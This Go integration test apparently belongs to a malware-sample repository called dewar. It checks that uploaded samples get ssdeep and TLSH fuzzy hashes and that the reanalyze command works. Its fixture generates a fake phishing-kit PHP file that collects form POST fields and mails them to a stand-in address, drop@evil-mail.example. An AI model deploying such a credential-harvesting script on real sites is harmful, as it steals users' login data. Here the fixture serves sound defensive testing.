// Package analysis tests content analysis end to end: a kit uploaded to a
// real `dewar serve` through S3 has its fuzzy hashes in the sample
// headers, and `dewar reanalyze` runs beside the server.
package analysis

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	awsmiddleware "github.com/aws/aws-sdk-go-v2/aws/middleware"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	smithyhttp "github.com/aws/smithy-go/transport/http"

	"dewar/analyzers/ssdeep"
	"dewar/analyzers/tlsh"
	"dewar/gateway/web/apiclient"
	"dewar/test/harness"
)

func client(srv *harness.Server) *s3.Client {
	return s3.New(s3.Options{
		BaseEndpoint: aws.String(srv.URL), Region: harness.Region, UsePathStyle: true,
		Credentials: credentials.NewStaticCredentialsProvider(harness.AccessKey, harness.SecretKey, ""),
		HTTPClient:  srv.HTTPClient(),
	})
}

func hexSum(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// mailer is a kit file big enough for both fuzzy hashes.
func mailer() []byte {
	var b bytes.Buffer
	b.WriteString("<?php\n$to = \"drop@evil-mail.example\";\n")
	for i := range 80 {
		fmt.Fprintf(&b, "$f%d = isset($_POST['field%d']) ? trim($_POST['field%d']) : '';\n", i, i%7, i%7)
	}
	b.WriteString("mail($to, 'login', print_r($_POST, true));\n?>\n")
	return b.Bytes()
}

func TestSampleHeadersAndReanalyze(t *testing.T) {
	srv := harness.Start(t, harness.Options{})
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	c := client(srv)

	post, tiny := mailer(), []byte("<?php echo 1;")
	var zbuf bytes.Buffer
	zw := zip.NewWriter(&zbuf)
	for name, body := range map[string][]byte{"kit/post.php": post, "kit/tiny.php": tiny} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	out, err := c.PutObject(ctx, &s3.PutObjectInput{Bucket: aws.String("incoming-other"), Key: aws.String("kit.zip"), Body: bytes.NewReader(zbuf.Bytes())})
	if err != nil {
		t.Fatal(err)
	}
	id := ""
	if r, ok := awsmiddleware.GetRawResponse(out.ResultMetadata).(*smithyhttp.Response); ok {
		id = r.Header.Get("x-dewar-job-id")
	}
	if id == "" {
		t.Fatal("no x-dewar-job-id")
	}
	api := apiclient.New(srv.UIURL, harness.AccessKey, harness.SecretKey)
	api.HTTPClient = srv.HTTPClient()
	j, err := api.WaitJob(ctx, id, 50*time.Millisecond)
	if err != nil || j.Status != "done" {
		t.Fatalf("job %s: %+v %v", id, j, err)
	}

	ss, tl := ssdeep.New(), tlsh.New()
	ss.Write(post)
	tl.Write(post)
	wantSS, wantTL := ss.Result(), tl.Result()
	if wantSS == "" || wantTL == "" {
		t.Fatal("weak fixture: no fuzzy hashes")
	}
	tinySS := ssdeep.New()
	tinySS.Write(tiny)

	tests := []struct {
		name, bucket, key string
		ssdeep, tlsh      string
	}{
		{"sample", "samples", hexSum(post), wantSS, wantTL},
		{"job file", "jobs", id + "/files/kit/post.php", wantSS, wantTL},
		{"too small for tlsh", "samples", hexSum(tiny), tinySS.Result(), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, err := c.HeadObject(ctx, &s3.HeadObjectInput{Bucket: aws.String(tt.bucket), Key: aws.String(tt.key)})
			if err != nil {
				t.Fatal(err)
			}
			if h.Metadata["ssdeep"] != tt.ssdeep {
				t.Errorf("HEAD x-amz-meta-ssdeep = %q, want %q", h.Metadata["ssdeep"], tt.ssdeep)
			}
			if got, ok := h.Metadata["tlsh"]; got != tt.tlsh || ok != (tt.tlsh != "") {
				t.Errorf("HEAD x-amz-meta-tlsh = %q (present %v), want %q", got, ok, tt.tlsh)
			}
			g, err := c.GetObject(ctx, &s3.GetObjectInput{Bucket: aws.String(tt.bucket), Key: aws.String(tt.key)})
			if err != nil {
				t.Fatal(err)
			}
			g.Body.Close()
			if g.Metadata["ssdeep"] != tt.ssdeep || g.Metadata["tlsh"] != tt.tlsh {
				t.Errorf("GET metadata %v", g.Metadata)
			}
		})
	}

	// Beside the running server, everything is current: nothing to do.
	cmd := exec.CommandContext(ctx, harness.Binary(t), "reanalyze", "--quiet")
	cmd.Env = append(os.Environ(), "DEWAR_DATA_DIR="+srv.DataDir)
	outb, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(outb), "reanalysed 0 files") {
		t.Fatalf("dewar reanalyze: %v\n%s", err, outb)
	}
	cmd = exec.CommandContext(ctx, harness.Binary(t), "reanalyze", "--analyzer", "nonsense")
	cmd.Env = append(os.Environ(), "DEWAR_DATA_DIR="+srv.DataDir)
	if outb, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(outb), "unknown analyzer") {
		t.Fatalf("dewar reanalyze --analyzer nonsense: %v\n%s", err, outb)
	}
}
